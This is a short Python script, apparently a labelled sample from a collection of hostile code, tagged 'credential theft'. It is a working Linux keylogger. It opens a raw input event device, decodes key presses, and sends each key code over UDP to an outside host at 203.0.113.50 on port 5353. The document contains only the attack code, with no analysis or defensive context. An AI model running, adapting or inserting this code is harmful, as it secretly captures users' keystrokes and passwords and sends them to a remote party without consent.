# class: credential theft, input device read raw; style: script
import struct, glob, socket
dev = [l.split("/")[-1].strip() for l in open("/proc/bus/input/devices").read().split() if l.startswith("event")]
f = open("/dev/input/" + (dev[0] if dev else "event0"), "rb")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
while True:
    _, _, typ, code, val = struct.unpack("llHHi", f.read(24))
    if typ == 1 and val == 1:
        u.sendto(bytes([code & 255]), ("203.0.113.50", 5353))
